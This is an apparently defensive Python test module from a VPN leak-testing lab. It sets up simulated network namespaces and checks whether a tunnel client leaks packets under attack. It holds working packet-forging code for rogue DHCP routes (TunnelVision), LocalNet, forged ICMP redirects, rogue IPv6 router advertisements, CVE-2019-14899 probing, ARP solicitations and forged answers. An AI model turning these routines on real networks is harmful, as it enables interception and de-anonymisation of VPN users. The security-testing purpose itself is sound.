"""What somebody on the LAN, on the internet or on the machine does to get a packet past the tunnel, or into it.

Each attack has its control in Disconnected: there it must succeed, or its cells are void.
"""

from __future__ import annotations

import re
import secrets
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from ipaddress import ip_address

from engine.leaklab import world
from engine.leaklab.arena import DISCONNECTED, Arena, Condition
from engine.leaklab.cells import Do, Findings, Test, Void, inside
from engine.leaklab.flood import KINDS, TOKEN
from engine.leaklab.namespaces import Namespace, wait_until
from engine.leaklab.probes import NOBODY, How, checksum, new_token, open_socket
from engine.leaklab.servers import DNS_PORT, ECHO_PORT

GROUP = "attacks"
BLOCKING = tuple(Condition(state) for state in ("connecting", "connected", "error", "lockdown"))
LAN_TOO = (*BLOCKING, Condition("connected", lan=True), Condition("error", lan=True))
_WATCHED = 1.0  # seconds
_TO_THE_INTERNET = {
    letter.encode()
    for kinds in KINDS.values()
    for letter, spec in kinds.items()
    if f"|{world.WEB4}" in spec or f"|{world.WEB6}" in spec
}


def _lures(lure: Callable[[Arena], None], undo: Callable[[Arena], None]) -> Do:
    """An attack that wants the device's packets for the internet to go by the rogue."""

    def do(arena: Arena, condition: Condition, findings: Findings) -> None:
        lure(arena)
        try:
            begin = time.monotonic()
            time.sleep(_WATCHED)
            arena.settle()
            caught = [
                frame
                for frame in list(arena.captures["the rogue neighbour"].frames)
                if frame.at >= begin and (found := TOKEN.search(frame.data)) and found[1] in _TO_THE_INTERNET
            ]
            if condition == DISCONNECTED:
                if not caught:
                    raise Void("the attack does not even work where nothing is enforced")
                return
            findings.leaked(len(caught), f"the rogue neighbour got {caught[0].line if caught else ''}")
            if condition.state == "connected":
                inside(arena, findings, "under attack")
        finally:
            undo(arena)

    return do


_STOLEN4, _STOLEN6 = ("203.0.113.0/24", "0.0.0.0/1", "128.0.0.0/1"), ("2001:db8:80::/64", "::/1", "8000::/1")


def _add_dhcp_routes(arena: Arena) -> None:
    """What a DHCP client does with a hostile server's classless static routes (option 121), and its IPv6 twin."""
    for network in _STOLEN4:
        arena.lab["device"].ip(f"route replace {network} via {world.ROGUE4} dev eth0")
    for network in _STOLEN6:
        arena.lab["device"].ip(f"-6 route replace {network} via {world.ROGUE6} dev eth0")


def _remove_dhcp_routes(arena: Arena) -> None:
    for network in _STOLEN4:
        arena.lab["device"].ip(f"route del {network} via {world.ROGUE4} dev eth0")
    for network in _STOLEN6:
        arena.lab["device"].ip(f"-6 route del {network} via {world.ROGUE6} dev eth0")


def _add_local_net(arena: Arena) -> None:
    """The access point says that the victim's network is the local one, and answers for the host wanted."""
    arena.lab["device"].ip("addr add 203.0.113.99/24 dev eth0")
    arena.lab["device"].ip("addr add 2001:db8:80::99/64 dev eth0 nodad")
    arena.lab["rogue"].ip(f"addr add {world.WEB4}/32 dev eth0")
    arena.lab["rogue"].ip(f"addr add {world.WEB6}/128 dev eth0 nodad")


def _remove_local_net(arena: Arena) -> None:
    arena.lab["device"].ip("addr del 203.0.113.99/24 dev eth0")
    arena.lab["device"].ip("addr del 2001:db8:80::99/64 dev eth0")
    arena.lab["rogue"].ip(f"addr del {world.WEB4}/32 dev eth0")
    arena.lab["rogue"].ip(f"addr del {world.WEB6}/128 dev eth0")


_GUESTS_OWN = (f"{world.GUEST4}/32", f"{world.GUEST6}/128")


def _add_routes_to_the_guest(arena: Arena) -> None:
    """The same for what comes back: the guest is said to live behind the rogue, who waits for the answers."""
    for network, rogue in zip(_GUESTS_OWN, (world.ROGUE4, world.ROGUE6), strict=True):
        arena.lab["device"].ip(f"{'-6 ' if ':' in network else ''}route replace {network} via {rogue} dev eth0")


def _remove_routes_to_the_guest(arena: Arena) -> None:
    for network in _GUESTS_OWN:
        arena.lab["device"].ip(f"{'-6 ' if ':' in network else ''}route del {network} dev eth0")


def _link(ns: Namespace, interface: str = "eth0") -> tuple[str, bytes]:
    """An interface's link-local address and its MAC."""
    found = re.search(r"inet6 (fe80::[0-9a-f:]+)", ns.ip(f"-6 addr show dev {interface} scope link"))
    if found is None:
        raise Void(f"{ns.name} has no link-local address on {interface}")
    mac = re.search(r"link/ether ([0-9a-f:]{17})", ns.ip(f"link show dev {interface}"))
    assert mac is not None
    return found[1], bytes.fromhex(mac[1].replace(":", ""))


def _send_frames(arena: Arena, role: str, frames: list[bytes], times: int = 3) -> None:
    with arena.lab[role].entered():
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    with sock:
        sock.bind(("eth0", 0))
        for _ in range(times):
            for frame in frames:
                sock.send(frame)
            time.sleep(0.05)


def _ip4(source: str, target: str, protocol: int, body: bytes) -> bytes:
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), secrets.randbelow(0x10000), 0, 64, protocol, 0,
        ip_address(source).packed, ip_address(target).packed,
    )  # fmt: skip
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def _ip6(source: str, target: str, protocol: int, body: bytes, hop_limit: int = 64) -> bytes:
    return (
        struct.pack("!IHBB", 6 << 28, len(body), protocol, hop_limit)
        + ip_address(source).packed + ip_address(target).packed + body
    )  # fmt: skip


def _summed(source: str, target: str, protocol: int, body: bytes, at: int) -> bytes:
    """The message with its checksum at this offset, over the pseudo header of its family."""
    ends = ip_address(source).packed + ip_address(target).packed
    pseudo = ends + struct.pack("!IHBB", len(body), 0, 0, protocol)
    padded = body + b"\0" * (len(body) % 2)
    return body[:at] + struct.pack("!H", checksum(pseudo + padded)) + body[at + 2 :]


def _redirect(arena: Arena) -> None:
    """ICMP and ICMPv6 redirects in the router's name: the way to the web server is by the rogue."""
    device, isp = arena.lab["device"], arena.lab["isp"]
    rogue_ll, rogue_mac = _link(arena.lab["rogue"])
    router_ll, _ = _link(isp, "lan")
    _, mac = _link(device)
    device.ip(f"-6 route replace default via {router_ll} dev eth0")
    for name in ("all", "eth0"):
        device.sysctl(f"net.ipv4.conf.{name}.accept_redirects", 1)
        device.sysctl(f"net.ipv4.conf.{name}.secure_redirects", 0)
        device.sysctl(f"net.ipv6.conf.{name}.accept_redirects", 1)
    device.sysctl("net.ipv6.conf.eth0.forwarding", 0)  # a router heeds none
    with open_socket(device, world.WEB6, socket.SOCK_DGRAM) as sock, suppress(OSError):
        sock.sendto(b"x", (world.WEB6, ECHO_PORT))
    embedded = _ip4(world.DEVICE4, world.WEB4, 17, struct.pack("!HHHH", 40000, ECHO_PORT, 9, 0) + b"x")[:28]
    message = struct.pack("!BBH4s", 5, 1, 0, ip_address(world.ROGUE4).packed) + embedded
    message = message[:2] + struct.pack("!H", checksum(message)) + message[4:]
    four = mac + rogue_mac + b"\x08\x00" + _ip4(world.ISP4, world.DEVICE4, 1, message)
    device_ll, _ = _link(device)
    targets = ip_address(rogue_ll).packed + ip_address(world.WEB6).packed
    body = struct.pack("!BBHI", 137, 0, 0, 0) + targets + bytes([2, 1]) + rogue_mac
    body = _summed(router_ll, device_ll, 58, body, 2)
    six = mac + rogue_mac + b"\x86\xdd" + _ip6(router_ll, device_ll, 58, body, 255)
    with open_socket(device, world.WEB4, socket.SOCK_DGRAM) as sock, suppress(OSError):  # whose packet is complained of
        sock.bind((world.DEVICE4, 40000))
        sock.connect((world.WEB4, ECHO_PORT))
        _send_frames(arena, "rogue", [four, six])


def _undo_redirect(arena: Arena) -> None:
    device = arena.lab["device"]
    device.sysctl("net.ipv6.conf.eth0.forwarding", 1)
    device.ip("route flush cache")
    device.ip("-6 route flush cache")
    device.ip(f"-6 route replace default via {world.ISP6}")


def _advertise(arena: Arena) -> None:
    """A router advertisement of the rogue's: a better default router, a prefix, a route to where the web server is."""
    device = arena.lab["device"]
    for name in ("all", "eth0"):
        device.sysctl(f"net.ipv6.conf.{name}.accept_ra", 2)
    rogue_ll, mac = _link(arena.lab["rogue"])
    prefix = struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 3600, 3600, 0, ip_address("2001:db8:66::").packed)
    route = struct.pack("!BBBBI8s", 24, 2, 64, 0x08, 3600, ip_address("2001:db8:80::").packed[:8])
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x08, 1800, 0, 0) + prefix + route + bytes([1, 1]) + mac
    body = _summed(rogue_ll, "ff02::1", 58, body, 2)
    frame = b"\x33\x33\0\0\0\1" + mac + b"\x86\xdd" + _ip6(rogue_ll, "ff02::1", 58, body, 255)
    device.ip(f"-6 route del default via {world.ISP6}")
    _send_frames(arena, "rogue", [frame])
    wait_until(lambda: rogue_ll in device.ip("-6 route show default"), 5, "the advertised route")


def _undo_advertise(arena: Arena) -> None:
    device = arena.lab["device"]
    for name in ("all", "eth0"):
        device.sysctl(f"net.ipv6.conf.{name}.accept_ra", 0)
    rogue_ll, _ = _link(arena.lab["rogue"])
    for words in (f"default via {rogue_ll} dev eth0", "2001:db8:66::/64 dev eth0", "2001:db8:80::/64 dev eth0"):
        try:
            device.ip(f"-6 route del {words}")
        except RuntimeError:
            pass
    for address in re.findall(r"inet6 (2001:db8:66:\S+)", device.ip("-6 addr show dev eth0")):
        device.ip(f"addr del {address} dev eth0")
    device.ip(f"-6 route replace default via {world.ISP6}")


# What the neighbours may learn of the tunnel


def _forged(arena: Arena, target: str, tokens: list[bytes]) -> list[bytes]:
    """SYN, SYN/ACK, UDP to a closed port and an echo request from the web server to this address of the device."""
    v6 = ":" in target
    source = world.WEB6 if v6 else world.WEB4
    messages: list[tuple[int, bytes]] = []
    for flags, port in ((0x02, 46001), (0x12, 46002), (0x10, 46003)):
        body = struct.pack("!HHIIBBHHH", 443, port, 1000, 5000, 5 << 4, flags, 64000, 0, 0)
        messages.append((6, _summed(source, target, 6, body, 16)))
    body = struct.pack("!HHHH", 443, 46004, 8 + 17, 0) + tokens[0] + b"."
    messages.append((17, _summed(source, target, 17, body, 6)))
    echo = struct.pack("!BBHHH", 128 if v6 else 8, 0, 0, 7, 7) + tokens[1]
    if v6:
        messages.append((58, _summed(source, target, 58, echo, 2)))
    else:
        messages.append((1, echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:]))
    _, rogue_mac = _link(arena.lab["rogue"])
    _, mac = _link(arena.lab["device"])
    kind = b"\x86\xdd" if v6 else b"\x08\x00"
    wrap = _ip6 if v6 else _ip4
    return [mac + rogue_mac + kind + wrap(source, target, protocol, message) for protocol, message in messages]


def _blind_in_path(arena: Arena, condition: Condition, findings: Findings) -> None:
    """CVE-2019-14899: packets to the tunnel's address on another interface; an answer would tell that it is there."""
    own = (world.DEVICE4, world.DEVICE6)
    targets = own if condition == DISCONNECTED else (world.TUNNEL4, world.TUNNEL6)
    arena.settle()
    begin = time.monotonic()
    tokens = [new_token().encode(), new_token().encode()]
    frames = [frame for target in targets for frame in _forged(arena, target, tokens)]
    _send_frames(arena, "rogue", frames)
    time.sleep(_WATCHED)
    arena.settle()
    findings.sent += 3 * len(frames)
    marks = ["-> 443", *(token.decode() for token in tokens)]
    answers = [
        frame for frame in list(arena.captures["the device's wire"].frames)
        if frame.at >= begin and any(mark in frame.line or mark.encode() in frame.data for mark in marks)
    ]  # fmt: skip
    if condition == DISCONNECTED:
        if not answers:
            raise Void("forged packets get no answer even at the device's own address")
        return
    findings.leaked(len(answers), f"answered: {answers[0].line if answers else ''}")


def _who_has(arena: Arena, condition: Condition, findings: Findings) -> None:
    """MLLVD-CR-24-03: ARP and neighbour solicitations for the tunnel's address on the LAN."""
    four, six = (world.DEVICE4, "fd77::2") if condition == DISCONNECTED else (world.TUNNEL4, world.TUNNEL6)
    rogue_ll, mac = _link(arena.lab["rogue"])
    rogue4 = ip_address(world.ROGUE4).packed
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + mac + rogue4 + bytes(6) + ip_address(four).packed
    group = "ff02::1:ff" + ip_address(six).exploded[-7:]
    body = struct.pack("!BBHI", 135, 0, 0, 0) + ip_address(six).packed + bytes([1, 1]) + mac
    body = _summed(rogue_ll, group, 58, body, 2)
    multicast = b"\x33\x33" + ip_address(group).packed[-4:]
    solicitation = multicast + mac + b"\x86\xdd" + _ip6(rogue_ll, group, 58, body, 255)
    arena.settle()
    begin = time.monotonic()
    _send_frames(arena, "rogue", [b"\xff" * 6 + mac + b"\x08\x06" + arp, solicitation])
    time.sleep(_WATCHED / 2)
    arena.settle()
    said = [frame.data for frame in list(arena.captures["the device's wire"].frames) if frame.at >= begin]
    answers = {
        "ARP": sum(data[12:14] == b"\x08\x06" and data[28:32] == ip_address(four).packed for data in said),
        "neighbour discovery": sum(data[54:55] == b"\x88" and data[62:78] == ip_address(six).packed for data in said),
    }
    findings.sent += 6
    if condition == DISCONNECTED:
        if not all(answers.values()):
            raise Void(f"not answered even for the device's own addresses: {answers}")
        return
    for name, count in answers.items():
        findings.leaked(count, f"{name} answers for the tunnel's address")


def _deanonymise(arena: Arena, condition: Condition, findings: Findings) -> None:
    """MUL-02-002: a user's process sends to the relay's endpoint, by every way there is, what only the engine may."""
    device = arena.lab["device"]
    token = new_token()
    tried, begin = 0, time.monotonic()
    ways: list[tuple[int, How]] = [
        (socket.SOCK_DGRAM, How(user=True)),
        (socket.SOCK_DGRAM, How(user=True, device="eth0")),
        (socket.SOCK_DGRAM, How(user=True, source=world.DEVICE4)),
        (socket.SOCK_STREAM, How(user=True)),
        (socket.SOCK_STREAM, How(user=True, device="eth0")),
    ]
    for kind, how in ways:
        for port in (world.RELAY_PORT, 53, 443):
            tried += 1
            with open_socket(device, world.RELAY4, kind, how=how) as sock:
                sock.settimeout(0.2)
                try:
                    sock.connect((world.RELAY4, port))
                    sock.send(f"{token}Z".encode())
                except OSError:
                    pass
    if _user_may_mark(device):
        findings.leaked(1, "an ordinary user may mark packets as the engine's own")
    findings.sent += tried
    arena.settle()
    frames = [f for f in list(arena.captures["the device's wire"].frames) if f"-> {world.RELAY4} ports" in f.line]
    clear = [f for f in frames if f.carries(token) or f.line.startswith("TCP")]
    if condition == DISCONNECTED:
        if not clear:
            raise Void("a user's packets to the relay are not seen even where nothing is enforced")
        return
    clear = [frame for frame in clear if frame.at >= begin]
    findings.leaked(len(clear), f"to the relay in clear: {clear[0].line if clear else ''}")


def _user_may_mark(ns: Namespace) -> bool:
    code = f"import socket; socket.socket().setsockopt(1, 36, {world.MARK})"
    user = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups"]
    command = ["ip", "netns", "exec", ns.name, *user, sys.executable, "-c", code]
    return subprocess.run(command, capture_output=True, check=False, timeout=20).returncode == 0


def _forged_answers(arena: Arena, condition: Condition, findings: Findings) -> None:
    """Unasked packets from where answers are expected: the custom resolver's port 53, and the relay's endpoint."""
    device, rogue_mac = arena.lab["device"], _link(arena.lab["rogue"])[1]
    mac = _link(device)[1]
    with open_socket(device, world.DEVICE4, socket.SOCK_DGRAM) as ear:
        ear.bind((world.DEVICE4, 0))
        ear.settimeout(0.5)
        port = ear.getsockname()[1]
        frames = []
        for source, sport in ((world.LAN_HOST4, DNS_PORT), (world.RELAY4, world.RELAY_PORT), (world.WEB4, 443)):
            body = struct.pack("!HHHH", sport, port, 8 + 6, 0) + b"unbidd"
            body = _summed(source, world.DEVICE4, 17, body, 6)
            frames.append(mac + rogue_mac + b"\x08\x00" + _ip4(source, world.DEVICE4, 17, body))
        _send_frames(arena, "rogue", frames)
        heard: list[str] = []
        while True:
            try:
                heard.append(ear.recvfrom(64)[1][0])
            except TimeoutError:
                break
    findings.sent += 9
    if condition == DISCONNECTED:
        if not heard:
            raise Void("unasked packets are not heard even where nothing is enforced")
        return
    findings.leaked(len(heard), f"heard from {', '.join(sorted(set(heard)))}")


def _dhcp_routes_first(arena: Arena, condition: Condition, findings: Findings) -> None:
    _add_dhcp_routes(arena)


CONTROLLED = (DISCONNECTED,)
TESTS = (
    Test(
        GROUP, "rogue DHCP routes (TunnelVision)", _lures(_add_dhcp_routes, _remove_dhcp_routes),
        (*CONTROLLED, *LAN_TOO), gap="LNX-1",
    ),
    Test(
        GROUP, "rogue DHCP routes before the connect", _lures(lambda arena: None, _remove_dhcp_routes),
        (*CONTROLLED, *BLOCKING), before=_dhcp_routes_first, gap="LNX-1",
    ),
    Test(
        GROUP, "the internet as the local network (LocalNet)", _lures(_add_local_net, _remove_local_net),
        (*CONTROLLED, *LAN_TOO), gap="LNX-1",
    ),
    Test(
        GROUP, "rogue DHCP routes to the guest", _lures(_add_routes_to_the_guest, _remove_routes_to_the_guest),
        (*CONTROLLED, *BLOCKING), gap="LNX-1",
    ),
    Test(GROUP, "ICMP redirects", _lures(_redirect, _undo_redirect), (*CONTROLLED, *BLOCKING), gap="LNX-1"),
    Test(
        GROUP, "rogue router advertisement", _lures(_advertise, _undo_advertise), (*CONTROLLED, *LAN_TOO), gap="LNX-1"
    ),
    Test(
        GROUP, "forged packets to the tunnel's address (CVE-2019-14899)", _blind_in_path, (*CONTROLLED, *LAN_TOO),
    ),
    Test(GROUP, "ARP for the tunnel's address (MLLVD-CR-24-03)", _who_has, (*CONTROLLED, *LAN_TOO)),
    Test(
        GROUP, "a user's packets to the relay (MUL-02-002)", _deanonymise, (*CONTROLLED, *LAN_TOO), gap="LNX-1"
    ),
    Test(
        GROUP, "unasked answers from the resolver and the relay", _forged_answers,
        (*CONTROLLED, *BLOCKING, Condition("connected", dns="private")), gap="LNX-4",
    ),
)  # fmt: skip
